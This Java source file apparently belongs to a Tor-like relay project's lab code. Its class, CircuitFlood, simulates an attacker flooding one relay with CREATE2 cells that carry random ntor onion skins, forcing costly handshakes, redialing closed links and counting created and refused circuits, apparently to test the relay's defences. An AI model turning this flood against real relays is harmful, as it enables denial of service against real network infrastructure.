package sallyport.lab.hostile;

import static sallyport.engine.cell.CellCommand.CREATE2;
import static sallyport.engine.cell.CellCommand.CREATED2;

import java.io.EOFException;
import java.io.IOException;
import java.net.InetAddress;
import java.time.Duration;
import java.util.List;
import java.util.concurrent.ThreadLocalRandom;
import java.util.concurrent.atomic.AtomicLong;
import sallyport.engine.bytes.Writer;

/// An attacker who has one relay make circuits that nobody uses: from each of his addresses a link, over
/// it CREATE2 with ntor onion skins that the relay must compute, one after the other at a rate. Each
/// costs him nothing, for the skins' keys are chance. A link that the relay closes is dialed again.
///
/// Threads of its own, until closed. What it counts may be read from any thread.
public final class CircuitFlood implements AutoCloseable {
    private static final int BATCHES_PER_SECOND = 20;
    private static final int POINT_BYTES = 32;
    private static final Duration AGAIN = Duration.ofMillis(500);

    private final RelayFacts relay;
    private final double perSecond;
    private final AtomicLong sent = new AtomicLong();
    private final AtomicLong created = new AtomicLong();
    private final AtomicLong refused = new AtomicLong();
    private final List<Thread> threads;
    private volatile boolean over;

    private CircuitFlood(RelayFacts relay, List<InetAddress> from, double perSecond) {
        this.relay = relay;
        this.perSecond = perSecond / from.size();
        this.threads = from.stream()
                .map(address -> Thread.ofVirtual().name("circuit-flood").start(() -> attack(address)))
                .toList();
    }

    /// Begins.
    ///
    /// @param from the addresses of the attacker, at least one, on this machine
    /// @param perSecond circuits asked for a second, over all addresses
    public static CircuitFlood start(RelayFacts relay, List<InetAddress> from, double perSecond) {
        return new CircuitFlood(relay, from, perSecond);
    }

    /// Circuits asked for.
    public long sent() {
        return sent.get();
    }

    /// Circuits that the relay made.
    public long created() {
        return created.get();
    }

    /// Circuits that it refused, by DESTROY.
    public long refused() {
        return refused.get();
    }

    @Override
    public void close() throws InterruptedException {
        over = true;
        for (Thread thread : threads) {
            thread.interrupt();
            thread.join();
        }
    }

    private void attack(InetAddress from) {
        while (!over) {
            try (ClientLink link = ClientLink.asClient(relay, from)) {
                Thread reader = Thread.ofVirtual().name("circuit-flood-answers").start(() -> count(link));
                try {
                    flood(link, reader);
                } finally {
                    reader.interrupt();
                }
            } catch (IOException refusedOrClosed) {
                refused.incrementAndGet();
            } catch (InterruptedException e) {
                return;
            }
            try {
                Thread.sleep(AGAIN);
            } catch (InterruptedException e) {
                return;
            }
        }
    }

    private void flood(ClientLink link, Thread reader) throws IOException, InterruptedException {
        long begin = System.nanoTime();
        long done = 0;
        while (!over && reader.isAlive()) {
            long due = (long) ((System.nanoTime() - begin) / 1e9 * perSecond);
            Writer cells = new Writer();
            for (; done < due; done++) {
                cells.bytes(link.wire().encoded(link.freshCircuit(), CREATE2, onionSkin()));
                sent.incrementAndGet();
            }
            link.wire().sendRaw(cells.toBytes());
            Thread.sleep(1_000 / BATCHES_PER_SECOND);
        }
    }

    private byte[] onionSkin() {
        byte[] point = new byte[POINT_BYTES];
        ThreadLocalRandom.current().nextBytes(point);
        byte[] skin = new Writer()
                .bytes(relay.rsaId())
                .bytes(relay.onionKey())
                .bytes(point)
                .toBytes();
        return new Writer().u16(Ntor.TYPE).u16(skin.length).bytes(skin).toBytes();
    }

    private void count(ClientLink link) {
        try {
            while (!over) {
                if (link.wire().nextButPadding().command() == CREATED2) {
                    created.incrementAndGet();
                } else {
                    refused.incrementAndGet();
                }
            }
        } catch (EOFException closed) {
            return;
        } catch (IOException silent) {
            return;
        }
    }
}
